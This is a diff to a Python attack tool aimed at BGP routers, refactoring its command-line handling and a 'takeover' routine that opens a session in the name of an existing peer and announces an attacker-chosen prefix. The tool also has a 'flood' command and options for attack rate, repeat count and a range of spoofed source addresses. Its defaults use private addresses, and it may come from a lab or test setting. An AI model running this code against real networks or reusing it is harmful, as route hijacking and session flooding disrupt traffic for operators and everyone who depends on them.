@@ -183,9 +183,9 @@ def hello(args, **more):
     return open_message(args.asn, args.router_id, args.hold, families, **more)
 
 
-def repeat(args, act):
+def repeat(args, act, counts=None):
     """act(stream) on one connection after the other; what came of each is counted."""
-    counts = {}
+    counts = {} if counts is None else counts
     for _ in Pace(args):
         try:
             stream = Stream.dial(args.source, args.target, args.port)
@@ -297,25 +297,20 @@ def flood(args):
 def takeover(args):
     """A call in the name of one who has a session; where it gets one, it announces --net in it."""
     counts = {"announced": 0}
-    for _ in Pace(args):
-        try:
-            stream = Stream.dial(args.source, args.target, args.port)
-            restart = None if args.no_restart else 120
-            listed = [] if args.no_families else None
-            outcome = session(stream, hello(args, restart=restart, restart_families=listed), timeout=args.patience)
-            if outcome == "established":
-                path = [] if args.internal else [args.asn]
-                pref = 100 if args.internal else None
-                stream.send(update([args.net], args.next_hop or args.source, path, pref))
-                counts["announced"] += 1
-                talk(stream, 2.0)
-            stream.close()
-        except EOFError:
-            outcome = "closed"
-        except OSError as error:
-            outcome = errno.errorcode.get(error.errno, "timeout")
-        counts[outcome] = counts.get(outcome, 0) + 1
-    return counts
+
+    def act(stream):
+        restart = None if args.no_restart else 120
+        listed = [] if args.no_families else None
+        outcome = session(stream, hello(args, restart=restart, restart_families=listed), timeout=args.patience)
+        if outcome == "established":
+            path = [] if args.internal else [args.asn]
+            pref = 100 if args.internal else None
+            stream.send(update([args.net], args.next_hop or args.source, path, pref))
+            counts["announced"] += 1
+            talk(stream, 2.0)
+        return outcome
+
+    return repeat(args, act, counts)
 
 
 COMMANDS = {
@@ -324,32 +319,43 @@ COMMANDS = {
 }
 
 
-def main():
+def arguments(commands):
+    """What every attacker is told: a command, whom it calls from where, as whom, for how long."""
     parser = argparse.ArgumentParser()
-    parser.add_argument("command", choices=COMMANDS)
+    parser.add_argument("command", choices=commands)
     parser.add_argument("--source", default="")
     parser.add_argument("--target", required=True)
     parser.add_argument("--port", type=int, default=179)
     parser.add_argument("--asn", type=int, default=65003)
     parser.add_argument("--router-id", default="172.31.0.3")
     parser.add_argument("--hold", type=int, default=90)
-    parser.add_argument("--families", default="1", help="AFIs: 1,2")
     parser.add_argument("--seconds", type=float, default=5.0)
     parser.add_argument("--count", type=int, default=100000)
-    parser.add_argument("--rate", type=float, default=100.0, help="a second")
     parser.add_argument("--prefixes", type=int, default=10000)
+    parser.add_argument("--next-hop", default="")
+    return parser
+
+
+def carry_out(commands, parser):
+    """Does what the command line says; what it did is the last line."""
+    args = parser.parse_args()
+    json.dump(commands[args.command](args), sys.stdout)
+    print()
+
+
+def main():
+    parser = arguments(COMMANDS)
+    parser.add_argument("--families", default="1", help="AFIs: 1,2")
+    parser.add_argument("--rate", type=float, default=100.0, help="a second")
     parser.add_argument("--net", default="10.66.0.0/16")
     parser.add_argument("--length", type=int, default=32)
-    parser.add_argument("--next-hop", default="")
     parser.add_argument("--no-restart", action="store_true")
     parser.add_argument("--no-families", action="store_true")
     parser.add_argument("--internal", action="store_true")
     parser.add_argument("--sources", default="", help="a network of IPv4 addresses to call from")
     parser.add_argument("--held", type=int, default=512)
     parser.add_argument("--patience", type=float, default=3.0)
-    args = parser.parse_args()
-    json.dump(COMMANDS[args.command](args), sys.stdout)
-    print()
+    carry_out(COMMANDS, parser)
 
 
 if __name__ == "__main__":
